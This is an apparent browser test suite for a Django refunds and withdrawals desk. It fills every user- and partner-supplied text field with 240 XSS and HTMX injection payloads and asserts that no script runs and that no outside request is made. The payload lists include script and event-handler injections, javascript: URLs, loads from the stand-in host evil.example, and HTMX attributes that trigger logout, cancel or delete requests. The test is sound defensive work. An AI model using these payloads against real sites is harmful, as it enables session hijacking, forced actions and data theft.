"""F57, F58: whatever AssetPay, a customer or a colleague writes is text. 240 payloads, every field, a real browser."""

from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.utils import timezone
from playwright.sync_api import Page, Request
from pytest_django.live_server_helper import LiveServer

from tests.browser.conftest import LogIn
from tests.desk import ask, deliver, item_of, news, person
from tests.factories import PASSWORD, ItemFactory, RefundFactory, UserFactory
from tests.wire import item_document, stamp
from withdrawals.actions.audit import Origin
from withdrawals.actions.batches import draft_batch, start_batch
from withdrawals.actions.notes import write_note
from withdrawals.actions.saved_views import save_view
from withdrawals.models import Delivery, Item, RefundState, Role, SavedList, Source, Trade, User

RUN = "window.__hit=1"
TAGS = [
    "<script>{}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    "<img src=//evil.example/x.png>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<a href=javascript:{}>x</a>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<template><script>{}</script></template>",
    "<marquee onstart={}>x</marquee>",
    "<select autofocus onfocus={}></select>",
    "<p style='background:url(//evil.example/x)'>x</p>",
]
HTMX = [
    "<div hx-get=/refunds/ hx-trigger=load></div>",
    "<div hx-post=/accounts/logout/ hx-trigger=load></div>",
    "<div data-hx-post=/accounts/logout/ data-hx-trigger=load></div>",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "<div hx-get=/now/ hx-trigger='every 1ms'></div>",
    "<div hx-post=/items/1/cancel/ hx-trigger=revealed></div>",
    "<div hx-on::load='{}'></div>",
    "<div hx-on:click='{}'></div>",
    "<div hx-vals='js:{{a:{}}}' hx-get=/now/ hx-trigger=load></div>",
    "<div hx-ext=//evil.example/x.js></div>",
    "<div hx-boost=true><a href=//evil.example autofocus>x</a></div>",
    "<div hx-swap-oob=true id=main>gone</div>",
    "<div hx-headers='js:{{a:{}}}' hx-get=/now/ hx-trigger=load></div>",
    "<div hx-trigger='load[{}]' hx-get=/now/></div>",
    "<div hx-delete=/items/1/ hx-trigger=intersect></div>",
]
# As a tag of its own, out of an attribute, out of a tag with a text, out of a comment, entity-coded, and in capitals.
WRAPS = ["{}", '">{}', "'>{}", "</textarea></title>{}", "-->{}", "</script>{}"]
PAYLOADS = [wrap.format(tag.format(*[RUN] * 3)) for tag in (*TAGS, *HTMX) for wrap in WRAPS]


def seen_by_agents(payload: str, number: int) -> tuple[str, str]:
    """A trade in which every field that takes text holds the payload; its id, and its item's."""
    now = timezone.now()
    trade_id, item_id = f"66f0a1b2c3d4e5f6b{number:07}", f"66f0a1b2c3d4e5f6c{number:07}"
    text = {"error": payload, "externalId": payload[:128]}
    item = item_document(
        item_id,
        marketHashName=payload,
        name=payload,
        iconUrl=payload,
        exterior=payload,
        phase=payload,
        type=payload,
        **text,
    )
    deliver(
        news(
            trade_id,
            items=[item],
            externalClientUserId=payload[:128],
            clientSteamID=payload[:64],
            offerId=payload,
            somethingNew=payload,
            createdAt=stamp(now - timedelta(hours=1)),
            updatedAt=stamp(now - timedelta(minutes=50)),
            **text,
        ),
        now=now,
    )
    return trade_id, item_id


def written_by_people(payload: str, item: Item) -> tuple[int, int]:
    """What colleagues may type, all of it the payload; the keys of a batch and of a person with such a name.

    Straight into the tables where a form would refuse it: what is there is shown.
    """
    now = timezone.now()
    someone = UserFactory(role=Role.SUPERVISOR)
    User.objects.filter(pk=someone.pk).update(
        email=f"{someone.pk}{payload}"[:254], first_name=payload[:150], last_name=payload[:150]
    )
    someone.refresh_from_db()
    origin = Origin(Source.SCREEN, actor=someone)
    for item_id in (None, item.pk):
        write_note(trade_id=item.trade_id, item_id=item_id, text=payload, actor=someone, origin=origin, now=now)
    for saved_list in SavedList:
        save_view(
            saved_list=saved_list, name=payload[:60], query="", is_shared=True, actor=someone, origin=origin, now=now
        )
    RefundFactory(state=RefundState.CONFIRMED, item=item, confirmed_by=someone, reference=payload[:100])
    RefundFactory(state=RefundState.WAIVED, waived_by=someone, waived_reason=payload[:200])
    batch = draft_batch(item_ids=[ItemFactory().pk, item.pk], selection=payload, actor=someone, origin=origin, now=now)
    start_batch(batch_id=batch.pk, reason=payload[:200], note=payload, actor=someone, origin=origin, now=now)
    return batch.pk, someone.pk


def test_f57_f58_there_are_240_of_them() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 240


@pytest.mark.parametrize("every", [pytest.param(10, id="fast"), pytest.param(1, id="soak", marks=pytest.mark.soak)])
def test_f57_f58_no_text_does_anything_in_a_browser(
    page: Page, live_server: LiveServer, transactional_db: None, log_in: LogIn, complaints: list[str], every: int
) -> None:
    payloads = PAYLOADS[::every]
    agent = person(Role.SUPERVISOR)
    made = [seen_by_agents(payload, number) for number, payload in enumerate(payloads)]
    for (trade_id, item_id), payload in zip(made, payloads, strict=True):
        ask(item_of(trade_id, item_id), actor=agent, now=timezone.now())
        agent.refresh_from_db()
        item = item_of(trade_id, item_id)
        item.cancellations.update(note=payload, reason=payload[:200])
    theirs = [written_by_people(payload, item_of(*ids)) for payload, ids in zip(payloads, made, strict=True)]
    reader = UserFactory(role=Role.SUPERVISOR)
    reader.groups.add(Group.objects.get(name=Role.ADMIN))
    log_in(page, reader.email)
    asked: list[str] = []

    def listen(request: Request) -> None:
        asked.append(f"{request.method} {request.url}")

    page.on("request", listen)
    trades = list(Trade.objects.order_by("pk").values_list("pk", flat=True))
    deliveries = list(Delivery.objects.order_by("pk").values_list("pk", flat=True))
    screens = ["/", "/items/?tab=open", "/items/?tab=all", "/trades/", "/cancellations/", "/deliveries/", "/audit/"]
    screens += [f"/trades/{key}/" for key in trades] + [f"/trades/{key}/document/" for key in trades[:3]]
    screens += [
        "/refunds/?state=confirmed",
        "/refunds/?state=waived",
        "/batches/",
        "/sending/",
        "/people/",
        "/refunds/money/",
    ]
    screens += [f"/batches/{batch}/" for batch, _ in theirs] + [f"/people/{someone}/" for _, someone in theirs]
    screens += [f"/audit/people/{theirs[0][1]}/", f"/items/{item_of(*made[0]).pk}/case/"]
    screens += [f"/deliveries/{key}/" for key in deliveries[:3]]
    screens += [f"{path}?q={payloads[0][:60].replace('#', '')}" for path in ("/items/", "/trades/", "/audit/")]

    for path in screens:
        page.goto(live_server.url + path)
        assert page.evaluate("window.__hit") is None, path

    own = [line for line in asked if line.split()[1].startswith(live_server.url)]
    assert set(asked) == set(own)
    # Pages say by themselves who has what open; no payload asks for that address.
    told = f"POST {live_server.url}/live/presence/"
    assert [line for line in asked if not line.startswith("GET ") and line != told] == []
    pages = {f"GET {live_server.url}{path}".split("?")[0] for path in screens}
    helpers = ("/static/", "/now/", "/live/", "/row/", "/favicon")
    strangers = [line for line in own if line.split("?")[0] not in pages and not any(word in line for word in helpers)]
    assert strangers == []
    page.goto(live_server.url + "/items/")
    assert page.get_by_role("button", name="Log out").is_visible()
    assert PASSWORD not in page.content()
